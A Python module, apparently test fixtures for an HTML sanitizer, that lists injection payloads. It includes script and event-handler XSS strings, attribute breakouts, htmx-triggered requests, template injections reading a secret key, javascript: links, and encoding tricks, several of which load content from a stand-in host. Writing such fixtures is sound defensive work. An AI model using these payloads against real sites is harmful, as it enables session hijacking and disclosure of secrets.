"""What somebody might try to slip into a text: markup, attributes, htmx, templates, links, and odd characters."""

from __future__ import annotations

MARKUP = (
    "<script>zq7()</script>",
    "<script src=//zq7.example></script>",
    "<SCRIPT>zq7()</SCRIPT>",
    "<scr<script>ipt>zq7()</script>",
    "</textarea><script>zq7()</script>",
    "</title><script>zq7()</script>",
    "<img src=x onerror=zq7()>",
    "<img/src=x/onerror=zq7()>",
    "<svg onload=zq7()>",
    "<svg><script>zq7()</script></svg>",
    "<svg><a xlink:href='javascript:zq7()'>x</a></svg>",
    "<math><mtext><script>zq7()</script></mtext></math>",
    "<iframe srcdoc='<script>zq7()</script>'></iframe>",
    "<iframe src=javascript:zq7()></iframe>",
    "<object data=data:text/html,zq7></object>",
    "<embed src=//zq7.example>",
    "<a href=javascript:zq7()>click</a>",
    "<a href='data:text/html,zq7'>click</a>",
    "<form action=//zq7.example><button>go</button></form>",
    "<input autofocus onfocus=zq7()>",
    "<details open ontoggle=zq7()>",
    "<body onload=zq7()>",
    "<base href=//zq7.example>",
    "<meta http-equiv=refresh content='0;url=//zq7.example'>",
    "<link rel=stylesheet href=//zq7.example>",
    "<style>@import'//zq7.example'</style>",
    "<div style='background:url(//zq7.example)'>",
    "<template><script>zq7()</script></template>",
    "<noscript><p title='</noscript><script>zq7()</script>'>",
    "<!--><script>zq7()</script>-->",
    "<![CDATA[<script>zq7()</script>]]>",
    "<?xml version='1.0'?><zq7/>",
)
ATTRIBUTES = (
    '" onfocus="zq7()" autofocus="',
    "' onmouseover='zq7()",
    "x onclick=zq7()",
    '"><script>zq7()</script>',
    "'><img src=x onerror=zq7()>",
    "`onload=zq7()`",
    '" hx-get="//zq7.example" hx-trigger="load',
    "&quot; onclick=&quot;zq7()",
)
HTMX = (
    "<div hx-get='/desk/' hx-trigger='load'>zq7</div>",
    "<div data-hx-post='/staff/sign-out/' data-hx-trigger='load'>zq7</div>",
    "<div hx-on::load='zq7()'>x</div>",
    "<div hx-on:htmx:load='zq7()'>x</div>",
    "<div hx-vals='js:{a: zq7()}' hx-get='/' hx-trigger='load'></div>",
    "<div hx-swap-oob='true' id='main'>zq7</div>",
    '<div hx-headers=\'{"X-zq7": "1"}\'></div>',
    "<div hx-ext='zq7'></div>",
)
TEMPLATES = (
    "{{ settings.SECRET_KEY }}zq7",
    "{% include 'zq7' %}",
    "{% debug %}zq7",
    "${zq7()}",
    "#{zq7}",
)
LINKS = (
    "[[javascript:zq7()]]",
    "[[words|javascript:zq7()]]",
    "[[<script>zq7()</script>|brace]]",
    "[zq7](javascript:zq7())",
    "*<b onclick=zq7()>x</b>*",
)
ODD = (
    "zq7 \u202egnp.exe",
    "&lt;script&gt;zq7()&lt;/script&gt;",
    "&#60;script&#62;zq7()&#60;/script&#62;",
    "\uff1cscript\uff1ezq7()\uff1c/script\uff1e",
    "zq7 %3Cscript%3E",
)
PAYLOADS = (*MARKUP, *ATTRIBUTES, *HTMX, *TEMPLATES, *LINKS, *ODD)
MARK = "zq7"
